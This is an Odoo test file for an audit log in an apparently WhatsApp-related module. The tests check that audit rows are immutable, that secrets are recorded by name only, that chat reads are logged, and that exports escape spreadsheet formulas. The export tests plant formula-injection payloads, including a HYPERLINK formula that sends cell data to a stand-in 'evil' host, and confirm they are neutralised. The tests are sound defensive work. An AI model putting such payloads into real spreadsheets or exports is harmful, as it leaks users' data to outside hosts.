"""The audit log: every act that matters is one row, and nobody changes a row."""

import io
import zipfile

import xlsxwriter

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from .common import WacCase


@tagged("post_install", "-at_install")
class TestWacAudit(WacCase):
    """What is noted, once, without secrets, and for good."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.manager.group_ids |= cls.env.ref("base.group_allow_export")

    def rows(self, action):
        return self.env["wac.audit"].search([("action", "=", action)]) - self.known

    def setUp(self):
        super().setUp()
        self.env.flush_all()
        self.known = self.env["wac.audit"].search([])

    def test_nobody_changes_or_deletes_a_row(self):
        self.env["wac.audit"]._wac_note("number", self.account, "x")
        row = self.rows("number")
        for user in (self.admin, self.env.ref("base.user_admin")):
            with self.subTest(user=user.login):
                with self.assertRaises(AccessError):
                    row.with_user(user).check_access("write")
                with self.assertRaises(AccessError):
                    row.with_user(user).check_access("unlink")
        with self.assertRaises(UserError):
            row.sudo().detail = "y"
        with self.assertRaises(UserError):
            row.sudo().unlink()
        with self.assertRaises(AccessError):
            row.with_user(self.manager).read(["action"])
        with self.assertRaises(AccessError):
            self.env["wac.audit"].with_user(self.admin).create(
                {"at": row.at, "action": "other"}
            )

    def test_a_secret_is_noted_by_name_only(self):
        self.account.with_user(self.admin).access_token = "EAAGsupersecret"
        row = self.rows("secret")
        self.assertEqual(len(row), 1)
        self.assertEqual(row.user_id, self.admin)
        self.assertIn("access_token", row.detail)
        self.assertNotIn("supersecret", row.detail)
        self.assertNotIn(self.account.access_token_cipher, row.detail)

    def test_administrative_acts(self):
        self.account.with_user(self.admin).write({"agent_ids": [(4, self.manager.id)]})
        self.assertEqual(self.rows("agents").res_ids, self.account.ids)
        self.app.with_user(self.admin).meta_app_id = "123"
        self.assertEqual(self.rows("app").user_id, self.admin)
        rule = (
            self.env["wac.notification.rule"]
            .with_user(self.manager)
            .create({"name": "R"})
        )
        rule.active = False
        self.assertEqual(len(self.rows("rule")), 2)

    def test_what_is_not_known_is_kept(self):
        self.env["wac.audit"]._wac_note("danced", detail="on the table")
        self.assertEqual(self.rows("other").detail, "danced: on the table")

    def open_chat(self, thread, user):
        channel = thread.channel_id.with_user(user)
        messages = self.env["mail.message"].with_user(user)
        messages._message_fetch(None, thread=channel)

    def test_reading_others_chats_is_noted_once_a_day(self):
        thread = self.make_thread()
        thread.channel_id = thread._wac_new_channels(self.account, thread.contact_id)
        self.open_chat(thread, self.agent)  # everybody's who answers for the number
        self.assertFalse(self.rows("read"))
        self.open_chat(thread, self.manager)  # not of this number
        self.open_chat(thread, self.manager)
        self.assertEqual(self.rows("read").user_id, self.manager)
        self.assertEqual(self.rows("read").res_ids, thread.ids)
        thread.user_id = self.manager
        self.open_chat(thread, self.agent)
        self.assertEqual(self.rows("read").user_id, self.manager | self.agent)
        self.assertEqual(len(self.rows("read")), 2)

    def test_exports_are_noted_and_hold_no_formula(self):
        thread = self.make_thread()
        thread.contact_id.profile_name = '=HYPERLINK("http://evil/?x="&A2,"click")'
        contact = thread.contact_id.with_user(self.manager)
        data = contact.export_data(["name", "profile_name", "wa_id"])["datas"][0]
        self.assertTrue(data[1].startswith("'="))
        self.assertEqual(data[2], thread.contact_id.wa_id)
        row = self.rows("export")
        self.assertEqual((row.user_id, row.res_ids), (self.manager, contact.ids))

    def test_a_spreadsheet_holds_no_formula(self):
        """Odoo's own writer makes a live formula of any text that begins with ``=``."""
        thread = self.make_thread()
        thread.contact_id.username = "=1+1"
        message = self.queue(thread, body="@SUM(1)\t")
        fields = ["contact_id/username", "body"]
        rows = message.with_user(self.manager).export_data(fields)["datas"]
        output = io.BytesIO()
        with xlsxwriter.Workbook(output, {"in_memory": True}) as book:
            book.add_worksheet().write_row(0, 0, rows[0])
        archive = zipfile.ZipFile(output)
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("<hyperlink", sheet)
        texts = archive.read("xl/sharedStrings.xml").decode()
        self.assertIn("'=1+1", texts)
        self.assertIn("'@SUM", texts)
